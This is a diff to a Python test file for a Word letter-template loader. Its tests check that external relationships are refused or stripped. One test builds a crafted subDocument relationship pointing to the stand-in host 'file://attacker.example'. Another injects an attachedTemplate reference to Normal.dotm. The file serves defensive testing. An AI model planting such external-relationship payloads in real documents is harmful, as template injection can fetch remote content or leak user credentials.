@@ -162,10 +162,32 @@ def test_other_external_relationships_are_refused(tmp_path):
     rewrite(template, lambda name, data: data.replace(
         b"</Relationships>",
         b'<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
-        b'attachedTemplate" Target="file://attacker.example/share/normal.dotm" TargetMode="External"/>'
+        b'subDocument" Target="file://attacker.example/share/part.docx" TargetMode="External"/>'
         b"</Relationships>") if name == "word/_rels/document.xml.rels" else data)
-    with pytest.raises(LetterTemplateError, match="attachedTemplate"):
+    with pytest.raises(LetterTemplateError, match="subDocument"):
         template_fields(template)
+
+
+def test_the_attached_template_word_records_is_removed_not_followed(tmp_path):
+    template = base_template(tmp_path)
+
+    def change(name, data):
+        if name == "word/settings.xml":
+            return data.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rIdT"/><w:zoom', 1)
+        return data
+
+    rewrite(template, change, {"word/_rels/settings.xml.rels": (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
+        b'openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" Type="http://schemas.'
+        b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+        b'Target="file:///C:/Users/someone/AppData/Roaming/Microsoft/Templates/Normal.dotm" '
+        b'TargetMode="External"/></Relationships>')})
+    with zipfile.ZipFile(template) as original:
+        assert b"attachedTemplate" in original.read("word/settings.xml")
+    package = read_template(template)
+    assert b"Normal.dotm" not in package.parts["word/_rels/settings.xml.rels"]
+    assert b"attachedTemplate" not in package.parts["word/settings.xml"]
+    assert "date" in template_fields(template)
 
 
 def _notes_part(kind, text):
